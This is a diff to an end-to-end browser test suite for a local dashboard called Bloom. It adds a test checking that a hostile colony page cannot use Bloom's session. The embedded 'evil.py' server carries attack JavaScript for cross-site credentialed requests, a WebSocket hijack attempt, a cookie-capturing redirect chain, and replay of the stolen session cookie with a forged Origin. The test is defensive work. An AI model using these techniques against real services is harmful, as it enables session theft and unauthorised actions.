@@ -10,6 +10,7 @@ from __future__ import annotations
 import json
 import os
 import re
+import socket
 import subprocess
 import sys
 import textwrap
@@ -95,7 +96,8 @@ def test_bloom_spawn_preview_terminal_stop(daemon: Daemon, page: Page, tmp_path:
     runs `echo hi`, and stopping it changes the badge."""
     repo = web_repo(tmp_path)
     page.goto(login_url(daemon))
-    assert page.url.rstrip("/") == daemon.client.health()["http_url"]  # redirected to Bloom
+    page.wait_for_url(daemon.client.health()["http_url"] + "/")  # the login page opens Bloom
+    assert page.url.startswith("http://bloom.localhost:")  # a name of its own (issue 11)
     expect(page.locator("#live")).to_have_text("live", timeout=WAIT)
     page.evaluate("window.__notReloaded = true")
 
@@ -168,3 +170,124 @@ def test_bloom_reconnects_after_daemon_restart(daemon: Daemon, page: Page, tmp_p
     expect(page.locator("#row-steady .badge")).to_have_text("running", timeout=WAIT)
     assert page.evaluate("window.__notReloaded") is True
     shot(page, "5-reconnected")
+
+
+# --- issue 11: a colony's page cannot use Bloom's session -----------------------------------
+
+EVIL = '''
+import json, os, sys
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+BLOOM, PORT = sys.argv[1], os.environ["PORT"]
+SEEN = []  # every Cookie header a browser sent here
+ATTACK = """<!doctype html><title>attack</title><pre id=out>running</pre><script>
+const bloom = %s, out = {};
+(async () => {
+  try {
+    const r = await fetch(bloom + "/colonies", {credentials: "include"});
+    out.read = r.status;
+  } catch (e) { out.read = "blocked"; }
+  for (const path of ["/colonies/victim/stop", "/gc"]) {
+    try {
+      await fetch(bloom + path, {method: "POST", mode: "no-cors", credentials: "include",
+        headers: {"Content-Type": "text/plain"}, body: "{}"});
+    } catch (e) { /* the answer is opaque either way */ }
+  }
+  out.ws = await new Promise((done) => {
+    const ws = new WebSocket(bloom.replace("http:", "ws:") + "/events");
+    ws.onopen = () => { done("open"); ws.close(); };
+    ws.onerror = () => done("refused");
+  });
+  document.getElementById("out").textContent = JSON.stringify(out);
+})();
+</script>""" % json.dumps(BLOOM)
+PAGES = {
+    "/": ATTACK,
+    # Off to Bloom's name on this port (cross-site: no cookie yet), then on within that site.
+    "/hop": f"<script>location.replace('http://bloom.localhost:{PORT}/again')</script>",
+    "/again": "<script>location.replace('/stolen')</script>",
+    "/stolen": "<p id=stolen>done</p>",
+}
+
+
+class Handler(BaseHTTPRequestHandler):
+    def do_GET(self):
+        SEEN.extend(self.headers.get_all("Cookie") or [])
+        if self.path == "/seen":
+            body, kind = json.dumps(SEEN), "application/json"
+        else:
+            body, kind = PAGES.get(self.path, ""), "text/html"
+        self.send_response(200)
+        self.send_header("Content-Type", kind)
+        self.send_header("Content-Length", str(len(body.encode())))
+        self.end_headers()
+        self.wfile.write(body.encode())
+
+
+ThreadingHTTPServer(("127.0.0.1", int(PORT)), Handler).serve_forever()
+'''
+
+
+def test_a_level_none_colony_page_cannot_use_a_bloom_session(
+    daemon: Daemon, page: Page, tmp_path: Path
+) -> None:
+    """When a browser logged into Bloom opens a page served by a colony at level none on
+    127.0.0.1, the page's fetches, POSTs and WebSocket to Bloom's API are refused; and a
+    session cookie the colony's server gets the browser to send it (cookies ignore ports)
+    opens nothing but an empty page skeleton when replayed with Bloom's own Origin."""
+    import httpx
+    from websockets.exceptions import InvalidStatus
+    from websockets.sync.client import connect as ws_connect
+
+    assert daemon.client is not None
+    bloom = str(daemon.client.health()["http_url"])
+    bloom_port = int(bloom.rsplit(":", 1)[1])
+    daemon.client.spawn("victim", make_repo(tmp_path / "victim", {"README.md": "hi\n"}))
+    toml = (
+        '[sandbox]\nlevel = "none"\n'
+        f'[services.web]\ncommand = "python3 evil.py {bloom}"\nport = 3000\n'
+    )
+    daemon.client.spawn(
+        "evil", make_repo(tmp_path / "evil", {"evil.py": EVIL, "colony.toml": toml})
+    )
+    wait_state(daemon.client, "victim", "running")
+    evil = wait_state(daemon.client, "evil", "running")
+    evil_port = evil["services"][0]["host_port"]
+
+    page.goto(login_url(daemon))
+    page.wait_for_url(f"{bloom}/")
+    expect(page.locator("#row-victim .badge")).to_have_text("running", timeout=WAIT)
+
+    page.goto(f"http://127.0.0.1:{evil_port}/")
+    expect(page.locator("#out")).not_to_have_text("running", timeout=WAIT)
+    result = json.loads(page.locator("#out").inner_text())
+    assert result["ws"] == "refused"
+    assert result["read"] in ("blocked", 401, 403)
+    page.goto(f"http://127.0.0.1:{evil_port}/hop")
+    page.wait_for_url(f"http://bloom.localhost:{evil_port}/stolen")
+    shot(page, "6-colony-page")
+
+    seen = httpx.get(f"http://127.0.0.1:{evil_port}/seen", timeout=10).json()
+    stolen = [c for c in seen if "colony_session=" in c]
+    assert stolen, "the browser sent no Bloom cookie to the colony's port: nothing to replay"
+    headers = {"Host": bloom.removeprefix("http://"), "Origin": bloom, "Cookie": stolen[-1]}
+    with httpx.Client(base_url=f"http://127.0.0.1:{bloom_port}", timeout=10) as http:
+        assert http.get("/colonies", headers=headers).status_code == 403
+        assert http.post("/colonies/victim/stop", headers=headers).status_code == 403
+        assert http.get("/ui/fragments/rows", headers=headers).status_code == 403
+        skeleton = http.get("/", headers=headers)
+        assert skeleton.status_code == 200
+        assert "victim" not in skeleton.text
+    sock = socket.create_connection(("127.0.0.1", bloom_port))
+    with (
+        pytest.raises(InvalidStatus, match="403"),
+        ws_connect(
+            f"ws://{headers['Host']}/events",
+            sock=sock,
+            origin=bloom,  # type: ignore[arg-type]
+            additional_headers={"Cookie": headers["Cookie"]},
+        ),
+    ):
+        pass
+    sock.close()
+    assert daemon.client.colony("victim")["state"] == "running"
